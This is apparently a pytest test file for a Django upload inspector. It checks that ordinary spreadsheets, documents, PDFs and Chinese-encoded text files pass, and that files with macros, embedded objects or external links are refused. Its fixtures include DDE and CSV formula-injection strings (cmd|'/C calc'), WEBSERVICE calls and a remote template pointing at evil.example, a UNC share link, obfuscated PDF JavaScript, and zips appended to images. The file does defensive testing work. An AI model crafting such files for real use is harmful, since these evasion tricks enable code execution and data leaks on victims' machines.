"""What acts by itself or reaches out is refused, each with its own sentence; what people really send comes in (T26)."""

import zlib

import pytest
from django.core.files.base import ContentFile

from files.enums import FileKind
from files.inspection.faults import Fault
from files.inspector import inspect
from tests.factories import docx_bytes, jpeg_bytes, pdf_bytes, png_bytes, xlsx_bytes, zip_bytes
from tests.factories.office import FORMATS, REL

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504


def found(content: bytes, kind: FileKind) -> Fault | None:
    return inspect(ContentFile(content), kind).fault


def link(kind: str, target: str, *, outside: bool = True) -> str:
    mode = ' TargetMode="External"' if outside else ""
    return f'<Relationship Id="rId9" Type="{REL}/{kind}" Target="{target}"{mode}/>'


def packed_pdf(
    objects: bytes, *, head: bytes = b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", tail: bytes = b""
) -> bytes:
    """A PDF with a stream of packed objects behind its page."""
    data = zlib.compress(b"9 0 " + objects) if b"Flate" in head else objects
    packed = (
        b"8 0 obj\n<< "
        + head
        + b" /Length %d >>%sstream\n" % (len(data), tail or b"\n")
        + data
        + b"\nendstream\nendobj\n"
    )
    page = pdf_bytes()
    return page[:9] + packed + page[9:]


PASSES = {
    "xlsx": (FileKind.XLSX, xlsx_bytes()),
    "xlsx with formulas": (
        FileKind.XLSX,
        xlsx_bytes('<row r="1"><c r="A1"><f>IF(B1="a|b",SUM(\'甲|乙\'!A1:A9),0)</f><v>1</v></c></row>'),
    ),
    "xlsx with a link to click": (
        FileKind.XLSX,
        xlsx_bytes(
            parts={
                "xl/worksheets/_rels/sheet1.xml.rels": "<R>"
                + link("hyperlink", "https://www.example.cn/")
                + "</R>"
            }
        ),
    ),
    "xlsx with a picture and settings of a printer": (
        FileKind.XLSX,
        xlsx_bytes(
            parts={
                "xl/media/image1.png": png_bytes(),
                "xl/printerSettings/printerSettings1.bin": b"\x01\x00Printer",
            }
        ),
    ),
    "docx": (FileKind.DOCX, docx_bytes()),
    "docx with a field": (
        FileKind.DOCX,
        docx_bytes('<w:p><w:r><w:instrText> HYPERLINK "https://www.example.cn/" </w:instrText></w:r></w:p>'),
    ),
    "docx with an old drawing": (FileKind.DOCX, docx_bytes(parts={"word/drawing1.vml": "<xml><br></xml>"})),
    "zip": (
        FileKind.ZIP,
        zip_bytes({"目录.txt": "一、申报书", "01_历史传承_证书.pdf": pdf_bytes(), "表.xlsx": xlsx_bytes()}),
    ),
    "pdf with packed objects": (FileKind.PDF, packed_pdf(b"<< /Type /Annot /Title (JavaScript) >>")),
    "pdf with an outline": (FileKind.PDF, pdf_bytes(extra=b"/Outlines << /First 3 0 R /Last 3 0 R >>")),
    "photograph with a second picture": (FileKind.JPEG, jpeg_bytes() + jpeg_bytes(4, 4)),
    "csv in GB18030": (FileKind.CSV, "企业名称,产值（万元）\r\n演示陶瓷厂,１２３\r\n".encode("gb18030")),
    "csv with a mark": (FileKind.CSV, "\ufeff企业名称,备注\n演示厂,-5|6\n".encode()),
    "txt": (FileKind.TXT, "第一条　为推动专业镇发展……\f\x1a".encode()),
    "html": (FileKind.HTML, "<!doctype html><html><body><script>1</script>第一条</body></html>".encode()),
}


@pytest.mark.parametrize("case", PASSES)
def test_what_people_send_comes_in(case: str) -> None:
    kind, content = PASSES[case]
    assert found(content, kind) is None


MACRO_TYPES = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
SHEETS = {
    "macros in a part": (xlsx_bytes(parts={"xl/vbaProject.bin": OLE}), Fault.MACROS),
    "macros under another name": (
        xlsx_bytes(
            parts={"xl/data.bin": OLE},
            links=link("vbaProject", "data.bin", outside=False).replace(
                REL, "http://schemas.microsoft.com/office/2006/relationships"
            ),
        ),
        Fault.MACROS,
    ),
    "a workbook that says it has macros": (
        xlsx_bytes(types=f'<Override PartName="/xl/workbook2.xml" ContentType="{MACRO_TYPES}"/>'),
        Fault.MACROS,
    ),
    "a sheet of macros": (xlsx_bytes(parts={"xl/macrosheets/sheet1.xml": "<macrosheet/>"}), Fault.MACROS),
    "a name that runs": (
        xlsx_bytes(book='<definedNames><definedName name="_xlnm.Auto_Open">A1</definedName></definedNames>'),
        Fault.MACROS,
    ),
    "a changed ribbon": (xlsx_bytes(parts={"customUI/customUI.xml": "<customUI/>"}), Fault.MACROS),
    "an embedded object": (xlsx_bytes(parts={"xl/embeddings/oleObject1.bin": OLE}), Fault.EMBEDDED),
    "an object under another name": (xlsx_bytes(parts={"xl/media/image1.png": OLE}), Fault.EMBEDDED),
    "a program as a picture": (xlsx_bytes(parts={"xl/media/image1.png": b"MZ\x90\x00"}), Fault.EMBEDDED),
    "ActiveX": (xlsx_bytes(parts={"xl/activeX/activeX1.xml": "<ax/>"}), Fault.EMBEDDED),
    "a control in the sheet": (xlsx_bytes(after="<controls><control/></controls>"), Fault.EMBEDDED),
    "another workbook": (
        xlsx_bytes(parts={"xl/externalLinks/externalLink1.xml": "<externalLink/>"}),
        Fault.EXTERNAL,
    ),
    "a link to another workbook": (
        xlsx_bytes(links=link("externalLinkPath", "file:///c:/x.xlsx")),
        Fault.EXTERNAL,
    ),
    "a picture from elsewhere": (
        xlsx_bytes(links=link("image", "https://evil.example/x.png")),
        Fault.EXTERNAL,
    ),
    "a link that runs": (xlsx_bytes(links=link("hyperlink", "javascript:alert(1)")), Fault.EXTERNAL),
    "a link into the network": (xlsx_bytes(links=link("hyperlink", "\\\\evil\\share")), Fault.EXTERNAL),
    "a data connection": (xlsx_bytes(parts={"xl/connections.xml": "<connections/>"}), Fault.EXTERNAL),
    "a query": (xlsx_bytes(parts={"xl/queryTables/queryTable1.xml": "<queryTable/>"}), Fault.EXTERNAL),
    "DDE": (xlsx_bytes("<row r='1'><c r='A1'><f>cmd|'/C calc'!A0</f></c></row>"), Fault.DYNAMIC_DATA),
    "DDE in two pieces": (
        xlsx_bytes("<row r='1'><c r='A1'><f>cmd<!-- -->|'/C calc'!A0</f></c></row>"),
        Fault.DYNAMIC_DATA,
    ),
    "DDE in a name": (
        xlsx_bytes(book="<definedNames><definedName name='x'>MSEXCEL|'a'!b</definedName></definedNames>"),
        Fault.DYNAMIC_DATA,
    ),
    "a function that calls the network": (
        xlsx_bytes('<row r="1"><c r="A1"><f>_xlfn.WEBSERVICE("http://evil.example")</f></c></row>'),
        Fault.DYNAMIC_DATA,
    ),
    "a drawing that moves": (
        xlsx_bytes(
            parts={"xl/media/a.svg": '<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>'}
        ),
        Fault.EMBEDDED,
    ),
    "a Word file": (docx_bytes(), Fault.OTHER_CONTENT),
    "a zip of anything": (zip_bytes({"a.txt": "x"}), Fault.OTHER_CONTENT),
    "a template": (xlsx_bytes(main="template.main+xml"), Fault.OTHER_CONTENT),
    "no cells": (xlsx_bytes(""), Fault.NO_ROWS),
}


@pytest.mark.parametrize("case", SHEETS)
def test_a_sheet_that_acts_or_reaches_out_is_refused(case: str) -> None:
    content, fault = SHEETS[case]
    assert found(content, FileKind.XLSX) == fault


DOCUMENTS = {
    "macros": (docx_bytes(parts={"word/vbaProject.bin": OLE}), Fault.MACROS),
    "a document that says it has macros": (
        docx_bytes(
            main="x",
            types=f'<Override PartName="/word/d2.xml" ContentType="{FORMATS}.macroEnabled.main+xml"/>',
        ),
        Fault.MACROS,
    ),
    "an embedded workbook": (docx_bytes(parts={"word/embeddings/a.xlsx": xlsx_bytes()}), Fault.EMBEDDED),
    "a page to be taken in": (docx_bytes(links=link("aFChunk", "a.html", outside=False)), Fault.EMBEDDED),
    "a template from elsewhere": (
        docx_bytes(links=link("attachedTemplate", "https://evil.example/t.dotm")),
        Fault.EXTERNAL,
    ),
    "an object from elsewhere": (
        docx_bytes(links=link("oleObject", "https://evil.example/x.html!")),
        Fault.EMBEDDED,
    ),
    "DDE": (docx_bytes('<w:p><w:fldSimple w:instr="DDEAUTO cmd &quot;/k&quot;"/></w:p>'), Fault.DYNAMIC_DATA),
    "DDE in runs": (
        docx_bytes(
            "<w:p><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\x</w:instrText></w:r></w:p>"
        ),
        Fault.DYNAMIC_DATA,
    ),
    "a workbook": (xlsx_bytes(), Fault.OTHER_CONTENT),
}


@pytest.mark.parametrize("case", DOCUMENTS)
def test_a_document_that_acts_or_reaches_out_is_refused(case: str) -> None:
    content, fault = DOCUMENTS[case]
    assert found(content, FileKind.DOCX) == fault


SCRIPT = b"<< /S /JavaScript /JS (app.alert(1)) >>"
PDFS = {
    "a packed script": (packed_pdf(SCRIPT), Fault.ACTIVE_PDF),
    "a packed script in other letters": (packed_pdf(b"<< /S /J#61vaScript >>"), Fault.ACTIVE_PDF),
    "a packed attachment": (packed_pdf(b"<< /Names << /EmbeddedFiles 7 0 R >> >>"), Fault.ACTIVE_PDF),
    "a type in other letters": (
        packed_pdf(SCRIPT, head=b"/Type /Obj#53tm /N 1 /First 4 /Filter /FlateDecode"),
        Fault.ACTIVE_PDF,
    ),
    "no type": (packed_pdf(SCRIPT, head=b"/N 1 /First 4 /Filter /FlateDecode"), Fault.ACTIVE_PDF),
    "a string that speaks of a stream": (
        packed_pdf(
            SCRIPT, head=b"/Type /ObjStm /X (1 0 obj << >> stream\n) /N 1 /First 4 /Filter /FlateDecode"
        ),
        Fault.ACTIVE_PDF,
    ),
    "a comment before the stream": (packed_pdf(SCRIPT, tail=b" % stream\n"), Fault.ACTIVE_PDF),
    "two filters": (
        packed_pdf(b"3c3c2f4a533e3e>", head=b"/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode]"),
        Fault.UNREADABLE_PDF,
    ),
    "a predictor": (
        packed_pdf(
            SCRIPT, head=b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /DecodeParms << /Predictor 12 >>"
        ),
        Fault.UNREADABLE_PDF,
    ),
    "packed objects that are damaged": (
        packed_pdf(b"xx", head=b"/Type /ObjStm /N 1 /First 4 /Filter /LZWDecode"),
        Fault.UNREADABLE_PDF,
    ),
    "a dictionary longer than any": (
        packed_pdf(
            SCRIPT, head=b"/Pad (" + b"x" * 200_000 + b") /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode"
        ),
        Fault.UNREADABLE_PDF,
    ),
    "a password": (pdf_bytes(extra=b"/Encrypt 9 0 R"), Fault.ENCRYPTED_PDF),
    "a form that sends": (pdf_bytes(extra=b"/A << /S /SubmitForm >>"), Fault.ACTIVE_PDF),
    "a zip behind it": (pdf_bytes() + zip_bytes({"a.txt": "x"})[-22:] + b"%%EOF", Fault.HIDDEN_CONTENT),
}


@pytest.mark.parametrize("case", PDFS)
def test_a_pdf_that_hides_something_is_refused(case: str) -> None:
    content, fault = PDFS[case]
    assert found(content, FileKind.PDF) == fault


OTHERS = {
    "a zip behind a picture": (FileKind.PNG, png_bytes() + zip_bytes({"a": "x"}), Fault.HIDDEN_CONTENT),
    "a zip behind a photograph": (FileKind.JPEG, jpeg_bytes() + zip_bytes({"a": "x"}), Fault.HIDDEN_CONTENT),
    "a page behind a photograph": (
        FileKind.JPEG,
        jpeg_bytes() + b"<script>1</script>\xff\xd9",
        Fault.HIDDEN_CONTENT,
    ),
    "a lot behind a picture": (FileKind.PNG, png_bytes() + b"\x00" * 2000, Fault.HIDDEN_CONTENT),
    "a picture with a flipped bit": (FileKind.PNG, png_bytes().replace(b"IDATx", b"IDATy"), Fault.DAMAGED),
    "a zip in a zip": (FileKind.ZIP, zip_bytes({"a.txt": zip_bytes({"b": "x"})}), Fault.NESTED),
    "a zip in a zip by name": (FileKind.ZIP, zip_bytes({"a.7z": "x"}), Fault.NESTED),
    "a program in place of text": (FileKind.TXT, b"MZ\x90\x00\x03", Fault.NOT_TEXT),
    "a PDF in place of text": (FileKind.TXT, pdf_bytes(), Fault.OTHER_CONTENT),
    "text in UTF-16": (FileKind.CSV, "企业,1".encode("utf-16"), Fault.UNKNOWN_ENCODING),
    "text in no encoding": (FileKind.CSV, b"a,\xff\xfe\xff\n", Fault.UNKNOWN_ENCODING),
    "text without words": (FileKind.TXT, b"\xef\xbb\xbf \r\n \n", Fault.NO_TEXT),
    "text with a zero": (FileKind.CSV, b"a,b\n1,\x002\n", Fault.NOT_TEXT),
    "a call in a table": (FileKind.CSV, "名称\n=cmd|' /C calc'!A0\n".encode(), Fault.DYNAMIC_DATA),
    "a call in full-width letters": (
        FileKind.CSV,
        "名称,\"＝cmd|'/C calc'!A0\"\n".encode("gb18030"),
        Fault.DYNAMIC_DATA,
    ),
    "a drawing as a page": (FileKind.HTML, b'<svg xmlns="http://www.w3.org/2000/svg"/>', Fault.OTHER_CONTENT),
}


@pytest.mark.parametrize("case", OTHERS)
def test_what_hides_behind_another_format_is_refused(case: str) -> None:
    kind, content, fault = OTHERS[case]
    assert found(content, kind) == fault


def test_every_fault_has_its_sentence() -> None:
    sentences = [fault.sentence for fault in Fault]
    assert len(set(sentences)) == len(sentences)
    for sentence in sentences:
        assert (sentence.endswith("。") and "上传" in sentence) or "重新选择" in sentence
